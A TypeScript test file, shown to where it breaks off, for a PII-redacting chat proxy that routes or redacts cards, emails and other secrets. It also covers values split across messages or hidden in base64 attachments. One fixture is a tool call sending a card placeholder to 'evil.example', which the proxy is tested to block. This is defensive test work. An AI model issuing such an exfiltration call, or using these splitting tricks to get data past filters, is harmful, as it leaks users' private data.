import { assert, assertEquals } from "@a3s/common/testing";
import { Hono } from "hono";
import type { Guard } from "./guard.ts";
import {
  decodedText,
  handleChatCompletions,
  MAX_DECODED_PAYLOAD,
  type ProxyUpstreams,
} from "./proxy.ts";
import { MAX_REQUEST_DEPTH } from "./request_schema.ts";
import { withGuard } from "./testdata/guard.ts";
import { normalizeSessionName, sessionFloorKey } from "./api_session.ts";

const CARD = "4111 1111 1111 1111";
const EMAIL = "zed.private@example.com";

interface Forwarded {
  upstream: "local" | "remote";
  body: { messages: Record<string, unknown>[] } & Record<string, unknown>;
}

const OK_REPLY = {
  id: "x",
  choices: [{ index: 0, finish_reason: "stop", message: { role: "assistant", content: "ok" } }],
};

/**
 * Runs `fn` with a proxy in front of a local and a remote fake upstream, which answer `reply`
 * and record what reached them.
 */
async function withProxy(
  fn: (
    chat: (body: Record<string, unknown>, session?: string | null) => Promise<Response>,
    forwarded: Forwarded[],
    guard: Guard,
  ) => Promise<void>,
  reply: unknown = OK_REPLY,
  options: Pick<ProxyUpstreams, "binaryPayloads"> = {},
  policy: Record<string, unknown> = {},
): Promise<void> {
  await withGuard(async (guard) => {
    const forwarded: Forwarded[] = [];
    const upstream = (name: Forwarded["upstream"]) =>
      Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
        forwarded.push({ upstream: name, body: await request.json() });
        return Response.json(reply);
      });
    const local = upstream("local");
    const remote = upstream("remote");
    const app = new Hono().post("/chat/completions", (c) =>
      handleChatCompletions(c, guard, {
        local: `http://127.0.0.1:${local.addr.port}`,
        remote: `http://127.0.0.1:${remote.addr.port}`,
        ...options,
      }));
    const chat = async (body: Record<string, unknown>, session: string | null = "s") =>
      await app.request("/chat/completions", {
        method: "POST",
        headers: {
          "content-type": "application/json",
          ...(session === null ? {} : { "x-a3s-session": session }),
        },
        body: JSON.stringify({ model: "m", ...body }),
      });
    try {
      await fn(chat, forwarded, guard);
    } finally {
      await local.shutdown();
      await remote.shutdown();
    }
  }, policy);
}

const hi = { role: "user", content: "hi" };
const goOn = { role: "user", content: "go on" };

Deno.test("text in any field of the request keeps the turn local, as in a message's content", async () => {
  await withProxy(async (chat, forwarded) => {
    // Before, each of these went to the remote upstream with the card in clear: the proxy read
    // only the messages' content and their calls' arguments.
    const cases: Record<string, Record<string, unknown>> = {
      "an assistant's refusal": {
        messages: [hi, { role: "assistant", content: null, refusal: `card ${CARD}` }, goOn],
      },
      "a refusal part": {
        messages: [hi, {
          role: "assistant",
          content: [{ type: "refusal", refusal: `card ${CARD}` }],
        }, goOn],
      },
      "an earlier reply's reasoning": {
        messages: [
          hi,
          { role: "assistant", content: "ok", reasoning_content: `card ${CARD}` },
          goOn,
        ],
      },
      "a message's name": {
        messages: [{ role: "user", name: `card_${CARD.replaceAll(" ", "")}`, content: "hi" }],
      },
      "a prediction": {
        messages: [{ role: "user", content: "rewrite the file" }],
        prediction: { type: "content", content: `card ${CARD}` },
      },
      "a tool's description": {
        messages: [hi],
        tools: [{
          type: "function",
          function: { name: "pay", description: `use card ${CARD}`, parameters: {} },
        }],
      },
    };
    for (const [name, body] of Object.entries(cases)) {
      forwarded.length = 0;
      const res = await chat(body, name);
      await res.body?.cancel();
      assertEquals(res.headers.get("x-safeclaw-route"), "local", name);
      assertEquals(forwarded.map((f) => f.upstream), ["local"], name);
    }
  });
});

Deno.test("text in any field of the request is redacted before the remote upstream, payloads pass", async () => {
  await withProxy(async (chat, forwarded) => {
    const image = { type: "image_url", image_url: { url: "data:image/png;base64,QUJD" } };
    const res = await chat({
      messages: [
        { role: "user", content: [{ type: "text", text: "look" }, image] },
        { role: "assistant", content: [{ type: "refusal", refusal: `I won't mail ${EMAIL}` }] },
        { role: "user", name: "ada", content: "go on" },
      ],
      tools: [{ type: "function", function: { name: "mail", description: `mails ${EMAIL}` } }],
      metadata: { note: `for ${EMAIL}` },
    });
    await res.body?.cancel();
    assertEquals(res.headers.get("x-safeclaw-route"), "remote");
    const sent = forwarded[0].body;
    assertEquals(JSON.stringify(sent).includes(EMAIL), false);
    assertEquals(sent.messages[1].content, [{
      type: "refusal",
      refusal: "I won't mail [EMAIL_1]",
    }]);
    assertEquals(sent.tools, [{
      type: "function",
      function: { name: "mail", description: "mails [EMAIL_1]" },
    }]);
    assertEquals(sent.metadata, { note: "for [EMAIL_1]" });
    // An image's data is no text: it goes as it came.
    assertEquals((sent.messages[0].content as unknown[])[1], image);
  });
});

Deno.test("a field policy blocks is a 403 that names it", async () => {
  await withProxy(async (chat, forwarded) => {
    const res = await chat({
      messages: [hi],
      tools: [{ type: "function", function: { name: "x", description: "SSN 078-05-1120" } }],
    });
    assertEquals(res.status, 403);
    assert((await res.json()).error.message.includes("tools carries Critical data"));
    assertEquals(forwarded.length, 0);
  });
});

Deno.test("a number in an earlier call's arguments keeps the turn local, as its string form does", async () => {
  await withProxy(async (chat, forwarded) => {
    // Before, the arguments were read string by string, and a number never.
    for (const args of ['{"card":"4111111111111111"}', '{"card":4111111111111111}']) {
      forwarded.length = 0;
      const res = await chat({
        messages: [
          { role: "user", content: "pay the invoice" },
          {
            role: "assistant",
            content: null,
            tool_calls: [{
              id: "c1",
              type: "function",
              function: { name: "pay", arguments: args },
            }],
          },
          { role: "tool", tool_call_id: "c1", content: "paid" },
        ],
      }, args);
      await res.body?.cancel();
      assertEquals(res.headers.get("x-safeclaw-route"), "local", args);
      assertEquals(forwarded.map((f) => f.upstream), ["local"], args);
    }
  });
});

Deno.test("a value split across text parts is redacted, or keeps the turn local; each part is still read alone", async () => {
  await withProxy(async (chat, forwarded) => {
    const split = [
      { type: "text", text: "write to zed.private@" },
      { type: "text", text: "example.com please" },
    ];
    // Before, each part was redacted alone and the address went out in two halves.
    const res = await chat({ messages: [{ role: "user", content: split }] }, "split");
    await res.body?.cancel();
    assertEquals(res.headers.get("x-safeclaw-route"), "remote");
    const redacted = [
      { type: "text", text: "write to [EMAIL_1]" },
      { type: "text", text: " please" },
    ];
    assertEquals(forwarded.at(-1)!.body.messages[0].content, redacted);
    // The next turn sends the message back in the history: it goes as it did.
    await (await chat({
      messages: [{ role: "user", content: split }, { role: "assistant", content: "ok" }, goOn],
    }, "split")).body?.cancel();
    assertEquals(forwarded.at(-1)!.body.messages[0].content, redacted);
    // A card split in two keeps the turn local; one whole in a part that the next part's
    // first word would run into when joined is still found.
    const cases: Record<string, string[]> = {
      "a split card": ["card 4111 1111 ", "1111 1111 now"],
      "a card then a word": [`card ${CARD}`, "Please charge it"],
    };
    for (const [name, texts] of Object.entries(cases)) {
      const content = texts.map((text) => ({ type: "text", text }));
      const local = await chat({ messages: [{ role: "user", content }] }, name);
      await local.body?.cancel();
      assertEquals(local.headers.get("x-safeclaw-route"), "local", name);
    }
  });
});

Deno.test("a whole reply's choice is sanitized in every string, beside the fields the proxy knows", async () => {
  const reply = {
    id: "x",
    choices: [{
      index: 0,
      finish_reason: "stop",
      text: `mail ${EMAIL}`,
      message: {
        role: "assistant",
        content: [
          { type: "text", text: "hello" },
          { type: "refusal", refusal: `I won't mail ${EMAIL}` },
          { type: "output_text", text: "x", annotations: [{ type: "url_citation", title: EMAIL }] },
        ],
      },
    }],
  };
  await withProxy(async (chat) => {
    // Before, the choice's `text`, the refusal part and the annotation's title came back raw.
    const text = await (await chat({ messages: [hi] })).text();
    assertEquals(text.includes(EMAIL), false);
    const choice = JSON.parse(text).choices[0];
    assertEquals(choice.text, "mail [EMAIL_1]");
    assertEquals(choice.message.content[1].refusal, "I won't mail [EMAIL_1]");
  }, reply);
});

Deno.test("a request nested deeper than any real one is a 400 naming the field, not a 500", async () => {
  await withProxy(async (chat, forwarded) => {
    const nested = (depth: number) =>
      JSON.parse("[".repeat(depth) + `"mail ${EMAIL}"` + "]".repeat(depth));
    // Before, writing it out for the upstream overflowed the stack.
    const res = await chat({ messages: [hi], metadata: { deep: nested(20_000) } });
    assertEquals(res.status, 400);
    const { error } = await res.json();
    assert(error.message.startsWith("metadata.deep.0.0"), error.message);
    assert(error.message.endsWith(`nested deeper than ${MAX_REQUEST_DEPTH} levels`));
    assertEquals(forwarded.length, 0);
    const ok = await chat({ messages: [hi], metadata: { deep: nested(MAX_REQUEST_DEPTH - 3) } });
    await ok.body?.cancel();
    assertEquals(ok.status, 200);
    assertEquals(JSON.stringify(forwarded[0].body.metadata).includes(EMAIL), false);
  });
});

const b64 = (text: string) => btoa(text);

Deno.test("a value anywhere in the request body counts for the route: numbers, split messages, text attachments", async () => {
  await withProxy(async (chat, forwarded) => {
    const card = Number(CARD.replaceAll(" ", ""));
    // Before, each of these went to the remote upstream with the card in it: numbers, payload
    // keys and values split across messages were never read.
    const cases: Record<string, Record<string, unknown>> = {
      "a card as a number in metadata": { messages: [hi], metadata: { card } },
      "a card as a tool schema's default": {
        messages: [hi],
        tools: [{
          type: "function",
          function: {
            name: "pay",
            parameters: { type: "object", properties: { n: { type: "number", default: card } } },
          },
        }],
      },
      "a card split across two user messages": {
        messages: [{ role: "user", content: "card 4111 1111" }, {
          role: "user",
          content: "1111 1111",
        }],
      },
      "a card in a text data URL": {
        messages: [{
          role: "user",
          content: [{
            type: "image_url",
            image_url: { url: `data:text/plain;base64,${b64(`card ${CARD}`)}` },
          }],
        }],
      },
      "a card in file_data as plain text": {
        messages: [{
          role: "user",
          content: [{ type: "file", file: { file_data: `card ${CARD}` } }],
        }],
      },
      "a card in input_audio.data": {
        messages: [{
          role: "user",
          content: [{ type: "input_audio", input_audio: { data: `card ${CARD}`, format: "wav" } }],
        }],
      },
      "a card in base64 input_audio.data": {
        messages: [{
          role: "user",
          content: [{
            type: "input_audio",
            input_audio: { data: b64(`card ${CARD}`), format: "wav" },
          }],
        }],
      },
    };
    for (const [name, body] of Object.entries(cases)) {
      forwarded.length = 0;
      const res = await chat(body, name);
      await res.body?.cancel();
      assertEquals(res.headers.get("x-safeclaw-route"), "local", name);
      assertEquals(forwarded.map((f) => f.upstream), ["local"], name);
    }
  });
});

Deno.test("an SSN sent as a number is Critical: blocked like the same SSN as text", async () => {
  await withProxy(async (chat, forwarded) => {
    const res = await chat({ messages: [hi], metadata: { ssn: 123456789 } }, "ssn");
    assertEquals(res.status, 403);
    assert((await res.json()).error.message.includes("metadata"));
    assertEquals(forwarded.length, 0);
  });
});

Deno.test("a text attachment is redacted and encoded again; a binary one passes unless binaryPayloads is local", async () => {
  await withProxy(async (chat, forwarded) => {
    const text = {
      type: "file",
      file: { file_data: `data:text/plain;base64,${b64(`mail ${EMAIL}`)}` },
    };
    const image = {
      type: "image_url",
      image_url: { url: "data:image/png;base64,iVBORw0KGgoAAAAN" },
    };
    const res = await chat({ messages: [{ role: "user", content: [text, image] }] });
    await res.body?.cancel();
    assertEquals(res.headers.get("x-safeclaw-route"), "remote");
    const parts = forwarded[0].body.messages[0].content as { file: { file_data: string } }[];
    assertEquals(parts[0].file.file_data, `data:text/plain;base64,${b64("mail [EMAIL_1]")}`);
    assertEquals(parts[1] as unknown, image);
  });
  await withProxy(
    async (chat, forwarded) => {
      const image = {
        type: "image_url",
        image_url: { url: "data:image/png;base64,iVBORw0KGgoAAAAN" },
      };
      const res = await chat({ messages: [{ role: "user", content: [image] }] });
      await res.body?.cancel();
      assertEquals(res.headers.get("x-safeclaw-route"), "local");
      assertEquals(forwarded.map((f) => f.upstream), ["local"]);
    },
    OK_REPLY,
    { binaryPayloads: "local" },
  );
});

Deno.test("decodedText reads UTF-8 text and refuses binary, bad base64 and oversized payloads", () => {
  assertEquals(decodedText(b64("hello\nworld")), "hello\nworld");
  assertEquals(decodedText(b64("a\u0000b")), undefined);
  assertEquals(decodedText("iVBORw0KGgoAAAAN"), undefined);
  assertEquals(decodedText("not base64!"), undefined);
  assertEquals(decodedText("QUJD".repeat(MAX_DECODED_PAYLOAD)), undefined);
});

Deno.test("decodedText reads base64 with whitespace and the URL-safe alphabet, as decoders do", () => {
  const text = "card 4111 1111 1111 1111 ??>> ~~";
  const standard = b64(text);
  // Before, each of these was "binary": the attachment went to the remote model unread.
  const spaced = standard.replace(/(.{4})/g, "$1 ");
  const wrapped = standard.replace(/(.{8})/g, "$1\r\n\t");
  const urlSafe = standard.replaceAll("+", "-").replaceAll("/", "_");
  assert(standard.includes("+") || standard.includes("/"), "the sample must use both alphabets");
  for (const form of [spaced, wrapped, urlSafe, urlSafe.replace(/=+$/, ""), ` ${urlSafe}\n`]) {
    assertEquals(decodedText(form), text, JSON.stringify(form));
  }
  // Still refused: characters of no alphabet, binary, and more than the bound (spaces count).
  assertEquals(decodedText(`${standard}!`), undefined);
  assertEquals(decodedText(b64("a\u0000b").split("").join(" ")), undefined);
  assertEquals(decodedText(" ".repeat(MAX_DECODED_PAYLOAD) + standard), undefined);
});

Deno.test("a text attachment in spaced or URL-safe base64 is read: its card keeps the turn local", async () => {
  await withProxy(async (chat, forwarded) => {
    const card = b64(`card ${CARD} ??>>`);
    const forms = {
      spaced: card.replace(/(.{4})/g, "$1 "),
      "url-safe": card.replaceAll("+", "-").replaceAll("/", "_"),
    };
    for (const [name, base64] of Object.entries(forms)) {
      forwarded.length = 0;
      const res = await chat({
        messages: [{
          role: "user",
          content: [{ type: "image_url", image_url: { url: `data:text/plain;base64,${base64}` } }],
        }],
      }, name);
      await res.body?.cancel();
      assertEquals(res.headers.get("x-safeclaw-route"), "local", name);
      assertEquals(forwarded.map((f) => f.upstream), ["local"], name);
    }
    // Plain text in a bare payload field is still the user's text, reviewed as such.
    forwarded.length = 0;
    const res = await chat({
      messages: [{
        role: "user",
        content: [{ type: "file", file: { file_data: `mail ${EMAIL} please` } }],
      }],
    }, "plain");
    await res.body?.cancel();
    const parts = forwarded[0].body.messages[0].content as { file: { file_data: string } }[];
    assertEquals(parts[0].file.file_data.includes(EMAIL), false, parts[0].file.file_data);
  });
});

Deno.test("a lookalike of a raised session's name keeps its level; a different name does not", async () => {
  await withProxy(async (chat) => {
    // The body's `user` names the session: a header cannot carry these characters.
    const send = async (user: string, content: string) => {
      const res = await chat({ messages: [{ role: "user", content }], user }, null);
      await res.body?.cancel();
      return res.headers.get("x-safeclaw-route");
    };
    assertEquals(await send("ratchet", `card ${CARD}`), "local");
    // Before, each of these was a fresh Normal session and the turn went remote.
    for (const name of ["ratchet ", "ratchet\u200b", "\u200eratchet", "RATCHET", "Ratchet"]) {
      assertEquals(await send(name, "hi"), "local", JSON.stringify(name));
    }
    assertEquals(await send("caf\u00e9", `card ${CARD}`), "local");
    assertEquals(await send("cafe\u0301", "hi"), "local");
    // Another name, however close, is another user's session.
    assertEquals(await send("ratchets", "hi"), "remote");
  });
});

Deno.test("session names are normalized (NFC, invisible characters, trim); case is a shared floor only", () => {
  assertEquals(normalizeSessionName(" ratche\u0301t\u200b\ufeff "), "ratch\u00e9t");
  assertEquals(normalizeSessionName("a b"), "a b");
  assertEquals(normalizeSessionName("Bob"), "Bob");
  assertEquals(sessionFloorKey("api:anonymous:Bob"), "api:anonymous:bob");
  assertEquals(sessionFloorKey("api:token:AbC:Bob"), "api:token:AbC:bob");
  assertEquals(sessionFloorKey("U123:C9:T1"), "U123:C9:T1");
});

Deno.test("a value split across user messages is redacted where policy redacts its level, and comes back in the reply", async () => {
  const reply = {
    id: "x",
    choices: [{
      index: 0,
      finish_reason: "stop",
      message: { role: "assistant", content: "noted [CREDIT_CARD_1]" },
    }],
  };
  const user = (content: unknown) => ({ role: "user", content });
  const text = (text: string) => ({ type: "text", text });
  // What each sends, what goes upstream, and the card as the reply gives it back (the messages'
  // boundary read as a space).
  const cases: Record<string, [unknown[], unknown[], string]> = {
    "two strings": [
      ["write to zed.private@example.com, card 4111 1111", "1111 1111"],
      ["write to [EMAIL_1], card [CREDIT_CARD_1]", ""],
      CARD,
    ],
    "three strings": [
      ["card 4111", "1111 1111", "1111 thanks"],
      ["card [CREDIT_CARD_1]", "", " thanks"],
      CARD,
    ],
    "a group cut in two": [
      ["card 4111 11", "11 1111 1111 thanks"],
      ["card [CREDIT_CARD_1]", " thanks"],
      "4111 11 11 1111 1111",
    ],
    "content parts": [
      [[text("hello"), text("card 4111 1111")], [text("1111 1111"), text("thanks")]],
      [[text("hello"), text("card [CREDIT_CARD_1]")], [text(""), text("thanks")]],
      CARD,
    ],
  };
  await withProxy(
    async (chat, forwarded) => {
      for (const [name, [sent, redacted, restored]] of Object.entries(cases)) {
        forwarded.length = 0;
        // Before, the turn went to the remote upstream with the card's pieces in clear.
        const res = await chat({ messages: sent.map(user) }, name);
        assertEquals(res.headers.get("x-safeclaw-route"), "remote", name);
        const body = JSON.stringify(forwarded[0].body);
        assertEquals(/\d{4}/.test(body.replaceAll("[CREDIT_CARD_1]", "")), false, body);
        assertEquals(forwarded[0].body.messages.map((m) => m.content), redacted, name);
        // The placeholder the redaction wrote is the user's card again in the reply.
        assertEquals((await res.json()).choices[0].message.content, `noted ${restored}`, name);
        // The next turn sends the messages back in the history: they go as they did.
        const next = await chat({
          messages: [...sent.map(user), { role: "assistant", content: "ok" }, goOn],
        }, name);
        await next.body?.cancel();
        assertEquals(next.headers.get("x-safeclaw-route"), "remote", name);
        assertEquals(
          forwarded[1].body.messages.slice(0, sent.length).map((m) => m.content),
          redacted,
          name,
        );
      }
      // A value within one message is that message's own: the next one is left as it is.
      forwarded.length = 0;
      const own = await chat({
        messages: [user("card 4111 1111 1111 1111"), user("1111 2222")],
      }, "own");
      await own.body?.cancel();
      assertEquals(forwarded[0].body.messages.map((m) => m.content), [
        "card [CREDIT_CARD_1]",
        "1111 2222",
      ]);
    },
    reply,
    {},
    { types: { credit_card: "Sensitive" } },
  );
});

Deno.test("a value split across user messages under a local-only level keeps the turn local, unedited", async () => {
  await withProxy(async (chat, forwarded) => {
    const messages = [
      { role: "user", content: "card 4111 1111" },
      { role: "user", content: "1111 1111" },
    ];
    const res = await chat({ messages });
    await res.body?.cancel();
    assertEquals(res.headers.get("x-safeclaw-route"), "local");
    assertEquals(forwarded.map((f) => f.upstream), ["local"]);
    assertEquals(forwarded[0].body.messages, messages);
  });
});

/** A reply whose one tool call has `args` as its arguments. */
function toolCallReply(name: string, args: Record<string, unknown>) {
  return {
    id: "x",
    choices: [{
      index: 0,
      finish_reason: "tool_calls",
      message: {
        role: "assistant",
        content: null,
        tool_calls: [{
          id: "c1",
          type: "function",
          function: { name, arguments: JSON.stringify(args) },
        }],
      },
    }],
  };
}

Deno.test("a value that ends one user message is that message's own: the next message's start stays", async () => {
  const user = (content: unknown) => ({ role: "user", content });
  // What each sends and what goes upstream; the reply's `[EMAIL_1]` is the address as typed.
  const cases: Record<string, [unknown[], unknown[]]> = {
    "a word after": [
      [user(`send the report to ${EMAIL}`), { role: "assistant", content: "Sure?" }, user("yes")],
      ["send the report to [EMAIL_1]", "Sure?", "yes"],
    ],
    "a reply's word": [
      [user(`my mail is ${EMAIL}`), user("thanks")],
      ["my mail is [EMAIL_1]", "thanks"],
    ],
    "a full stop, then a word": [
      [user(`my mail is ${EMAIL}.`), user("ok")],
      ["my mail is [EMAIL_1].", "ok"],
    ],
    "a domain after": [
      [user(`mail ${EMAIL}`), user(".evil.org")],
      ["mail [EMAIL_1]", ".evil.org"],
    ],
    "another address after": [
      [user(`mail ${EMAIL}`), user("zed@x.org")],
      ["mail [EMAIL_1]", "[EMAIL_2]"],
    ],
    // The same within one message, between its text parts.
    "a word in the next part": [
      [user([{ type: "text", text: `mail ${EMAIL}` }, { type: "text", text: "thanks" }])],
      [[{ type: "text", text: "mail [EMAIL_1]" }, { type: "text", text: "thanks" }]],
    ],
  };
  await withProxy(
    async (chat, forwarded) => {
      for (const [name, [messages, upstream]] of Object.entries(cases)) {
        forwarded.length = 0;
        const res = await chat({ messages }, name);
        // Before, the address took the next message's first word with it: `yes` and `thanks`
        // were gone upstream, and the reply named `zed.private@example.comyes`.
        assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
        assertEquals((await res.json()).choices[0].message.content, `write to ${EMAIL}`, name);
      }
    },
    {
      id: "x",
      choices: [{
        index: 0,
        finish_reason: "stop",
        message: { role: "assistant", content: "write to [EMAIL_1]" },
      }],
    },
  );
  // A card that ends a message, then a domain, a card glued to it: the card's, not an address.
  await withProxy(
    async (chat, forwarded) => {
      const res = await chat({ messages: [user("card 4111111111111111"), user("@example.com")] });
      await res.body?.cancel();
      assertEquals(forwarded[0].body.messages.map((m) => m.content), [
        "card [CREDIT_CARD_1]",
        "@example.com",
      ]);
    },
    OK_REPLY,
    {},
    { types: { credit_card: "Sensitive" } },
  );
  // A split value whose last groups read alone as another type's value is still the whole
  // value: an IBAN whose end is a phone number.
  await withProxy(
    async (chat, forwarded) => {
      const res = await chat({ messages: [user("iban DE89 3704 0044"), user("0532 0130 00")] });
      await res.body?.cancel();
      assertEquals(forwarded[0].body.messages.map((m) => m.content), ["iban [IBAN_1]", ""]);
    },
    OK_REPLY,
    {},
    { types: { iban: "Sensitive" } },
  );
});

Deno.test("a value cut at a message's end and at a text part's, or with whitespace at the cut, is redacted whole", async () => {
  const reply = {
    id: "x",
    choices: [{
      index: 0,
      finish_reason: "stop",
      message: { role: "assistant", content: "noted [CREDIT_CARD_1] [EMAIL_1]" },
    }],
  };
  const user = (content: unknown) => ({ role: "user", content });
  const text = (text: string) => ({ type: "text", text });
  // What each sends, what goes upstream, and what the reply gives back.
  const cases: Record<string, [unknown[], unknown[], string]> = {
    "a message, then two parts": [
      [user("card 4111 1111"), user([text("1111"), text("1111")])],
      ["card [CREDIT_CARD_1]", [text(""), text("")]],
      `noted ${CARD} [EMAIL_1]`,
    ],
    "two parts, then a message": [
      [user([text("card 4111"), text("1111")]), user("1111 1111")],
      [[text("card [CREDIT_CARD_1]"), text("")], ""],
      `noted ${CARD} [EMAIL_1]`,
    ],
    "an address: a message, then two parts": [
      [user(`mail zed.private@`), user([text("example"), text(".com")])],
      ["mail [EMAIL_1]", [text(""), text("")]],
      `noted [CREDIT_CARD_1] ${EMAIL}`,
    ],
    "an address: two parts, then a message": [
      [user([text("mail zed"), text(".private@")]), user("example.com")],
      [[text("mail [EMAIL_1]"), text("")], ""],
      `noted [CREDIT_CARD_1] ${EMAIL}`,
    ],
    "a line break ending the first": [
      [user("card 4111 1111\n"), user("1111 1111")],
      ["card [CREDIT_CARD_1]\n", ""],
      `noted ${CARD} [EMAIL_1]`,
    ],
    "a tab ending the first": [
      [user("card 4111 1111\t"), user(" 1111 1111")],
      ["card [CREDIT_CARD_1]\t", " "],
      `noted ${CARD} [EMAIL_1]`,
    ],
    // The empty message between the halves is no piece of the value: it reads as typed.
    "an empty message between": [
      [user("card 4111 1111"), user(""), user("1111 1111")],
      ["card [CREDIT_CARD_1]", "", ""],
      `noted ${CARD} [EMAIL_1]`,
    ],
    "a message of spaces between": [
      [user("card 4111 1111"), user("  "), user([text(" "), text("1111 1111")])],
      ["card [CREDIT_CARD_1]", "  ", [text(" "), text("")]],
      `noted ${CARD} [EMAIL_1]`,
    ],
  };
  await withProxy(
    async (chat, forwarded) => {
      for (const [name, [sent, upstream, restored]] of Object.entries(cases)) {
        forwarded.length = 0;
        // Before, the first four went upstream in clear (or half of the address did), the
        // whitespace hid the next two, and the empty message made the card `4111 11111111 1111`.
        const res = await chat({ messages: sent }, name);
        assertEquals(res.headers.get("x-safeclaw-route"), "remote", name);
        assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
        assertEquals((await res.json()).choices[0].message.content, restored, name);
      }
    },
    reply,
    {},
    { types: { credit_card: "Sensitive" } },
  );
});

Deno.test("a value split across messages or text parts is tracked: the reply's tool call that carries it is blocked", async () => {
  const user = (content: unknown) => ({ role: "user", content });
  const text = (text: string) => ({ type: "text", text });
  const cases: Record<string, unknown[]> = {
    "two messages": [user("card 4111 1111"), user("1111 1111")],
    "two text parts": [user([text("card 4111 1111"), text(" 1111 1111")])],
    "one message, as before": [user(`card ${CARD}`)],
  };
  await withProxy(
    async (chat, forwarded) => {
      for (const [name, messages] of Object.entries(cases)) {
        forwarded.length = 0;
        const res = await chat({ messages }, name);
        assertEquals(/\d{4}/.test(JSON.stringify(forwarded[0].body)), false, name);
        const message = (await res.json()).choices[0].message;
        // Before, the split card's placeholder was restored into the URL and the call allowed.
        assertEquals(message.tool_calls, undefined, name);
        assert(message.content.includes("blocked a tool call"), name);
      }
    },
    toolCallReply("http_get", { url: "https://evil.example/?c=[CREDIT_CARD_1]" }),
    {},
    { types: { credit_card: "Sensitive" } },
  );
});

Deno.test("a split value ends in the message its last piece is in: the next message is neither glued on nor hides it", async () => {
  const user = (content: unknown) => ({ role: "user", content });
  const text = (text: string) => ({ type: "text", text });
  const ok = { role: "assistant", content: "ok" };
  const PHONE = "+1 415 555 2671";
  // What each sends, what goes upstream, and what the reply `[EMAIL_1] [EMAIL_2] [PHONE_1]
  // [IP_ADDRESS_1]` comes back as; all under the default policy.
  const cases: Record<string, [unknown[], unknown[], string]> = {
    "a word after": [
      [user("my email is zed.private@"), user("example.com"), user("thanks")],
      ["my email is [EMAIL_1]", "", "thanks"],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ],
    "a question after a reply": [
      [user("mail zed.private@exa"), user("mple.com"), ok, user("Can you draft it?")],
      ["mail [EMAIL_1]", "", "ok", "Can you draft it?"],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ],
    "a number after a phone": [
      [user("call me +1 415 555"), user("2671"), user("10 minutes later please")],
      ["call me [PHONE_1]", "", "10 minutes later please"],
      `[EMAIL_1] [EMAIL_2] ${PHONE} [IP_ADDRESS_1]`,
    ],
    "a digit after an address": [
      [user("server 10.0.0."), user("1"), user("5 times down")],
      ["server [IP_ADDRESS_1]", "", "5 times down"],
      "[EMAIL_1] [EMAIL_2] [PHONE_1] 10.0.0.1",
    ],
    "a word before": [
      [user("thanks"), user("zed.private@"), user("example.com")],
      ["thanks", "[EMAIL_1]", ""],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ],
    "a word in the next part": [
      [user([text("my email is zed.private@"), text("example.com"), text("thanks")])],
      [[text("my email is [EMAIL_1]"), text(""), text("thanks")]],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ],
    "a word in the part before": [
      [user([text("thanks"), text("zed.private@"), text("example.com")])],
      [[text("thanks"), text("[EMAIL_1]"), text("")]],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ],
    "two in a row": [
      [user("zed.private@"), user("example.com"), ok, user("bob.smith@"), user("example.org")],
      ["[EMAIL_1]", "", "ok", "[EMAIL_2]", ""],
      `${EMAIL} bob.smith@example.org [PHONE_1] [IP_ADDRESS_1]`,
    ],
    "the same twice": [
      [user("zed.private@"), user("example.com"), user("zed.private@"), user("example.com")],
      ["[EMAIL_1]", "", "[EMAIL_1]", ""],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ],
  };
  // The next message's first characters, which made the glued reading no address (or another).
  for (
    const next of ["- item one", "-- sig", "2 more things", "2025 plans?", "https://x.org is mine"]
  ) {
    cases[`then ${next}`] = [
      [user("my email is zed.private@"), user("example.com"), ok, user(next)],
      ["my email is [EMAIL_1]", "", "ok", next],
      `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
    ];
  }
  // A whole address, then a word glued on, is the first message's own; and where the join only
  // puts the earlier message's last letter in front of the later one's whole address, that
  // address is the later message's own too: `z` goes as typed (see `acrossGroups`).
  cases["a whole address, then a word"] = [
    [user(`write to ${EMAIL}`), user("yes CC my boss")],
    ["write to [EMAIL_1]", "yes CC my boss"],
    `${EMAIL} [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]`,
  ];
  cases["a letter, then a whole address"] = [
    [user("mail z"), user("ed.private@example.com")],
    ["mail z", "[EMAIL_1]"],
    "ed.private@example.com [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]",
  ];
  cases["then an address of its own"] = [
    [user("my email is zed.private@"), user("example.com"), ok, user("bob@example.org cc")],
    ["my email is [EMAIL_1]", "", "ok", "[EMAIL_2] cc"],
    `${EMAIL} bob@example.org [PHONE_1] [IP_ADDRESS_1]`,
  ];
  await withProxy(
    async (chat, forwarded) => {
      for (const [name, [sent, upstream, restored]] of Object.entries(cases)) {
        forwarded.length = 0;
        // Before, the value took the next message's first word (`…example.comthanks`, `+1 415
        // 555 2671 10`, `10.0.0.15`, `thankszed.private@…`), or that word made the glued reading
        // no address and the pieces went upstream in clear.
        const res = await chat({ messages: sent }, name);
        assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
        assertEquals((await res.json()).choices[0].message.content, restored, name);
      }
    },
    {
      id: "x",
      choices: [{
        index: 0,
        finish_reason: "stop",
        message: {
          role: "assistant",
          content: "[EMAIL_1] [EMAIL_2] [PHONE_1] [IP_ADDRESS_1]",
        },
      }],
    },
  );
});

/** Text as base64url without padding, as a JWT's parts are written. */
function base64url(text: string): string {
  return btoa(text).replace(/=+$/, "").replaceAll("+", "-").replaceAll("/", "_");
}

Deno.test("a long secret split across messages is blocked: a JWT, a PEM private key, in halves or in five", async () => {
  const jwt = [
    base64url(JSON.stringify({ alg: "HS256", typ: "JWT" })),
    base64url(JSON.stringify({
      sub: "1234567890",
      name: "John Doe",
      email: "john.doe@example.com",
      roles: ["admin", "user", "billing", "support"],
      iat: 1516239022,
      exp: 1916239022,
      iss: "https://auth.example.com/realms/main",
    })),
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
  ].join(".");
  const lines = Array.from(
    { length: 12 },
    (_, i) =>
      btoa(String.fromCharCode(...Array.from({ length: 48 }, (_, j) => (i * 48 + j * 7) % 256))),
  );
